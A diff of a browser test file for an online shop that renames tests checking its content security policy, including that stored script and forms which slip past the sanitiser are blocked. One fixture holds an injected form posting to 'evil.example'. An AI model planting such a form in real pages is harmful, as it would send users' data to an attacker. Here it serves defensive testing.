@@ -12,7 +12,7 @@ import { findRoutes, readProduct } from './routes';
 import { DESKTOP, PHONE } from './screens';
 import { test } from './shop';
 
-test('every page runs under its policy, and violates nothing', LONG, async ({ page, request }) => {
+test('every page has a strict content security policy and violates nothing', LONG, async ({ page, request }) => {
   test.setTimeout(400_000);
   const violations = await watchPolicy(page);
   const routes = await findRoutes(request);
@@ -26,7 +26,7 @@ test('every page runs under its policy, and violates nothing', LONG, async ({ pa
   tellFigure({ property: 'I5 policy, routes', reached: `${routes.length}: 0 violations`, bar: 'every one: 0' });
 });
 
-test('a soft way through the shop violates nothing', async ({ page, request }) => {
+test('soft navigations violate nothing', async ({ page, request }) => {
   const violations = await watchPolicy(page);
   const product = await readProduct(request, 'tui');
   await arrive(page, '/catalog/hvojnye/tui');
@@ -82,7 +82,7 @@ const STORED = {
 
 for (const [what, stored] of Object.entries(STORED)) {
   test(
-    `${what} that came past the sanitiser does not run, what is the shop's own does`,
+    `${what} that passed the sanitiser is blocked by the policy, the shop's own script is not`,
     longUnless(what === 'a handler'),
     async ({ page }) => {
       const server = await openWithStored(stored);
@@ -97,7 +97,7 @@ for (const [what, stored] of Object.entries(STORED)) {
   );
 }
 
-test('a form that came past the sanitiser posts to nobody else', LONG, async ({ page }) => {
+test('a form that passed the sanitiser cannot post to another site', LONG, async ({ page }) => {
   const server = await openWithStored('<form method="post" action="https://evil.example/"></form>');
   const violations = await watchPolicy(page);
   await page.goto(server.url);
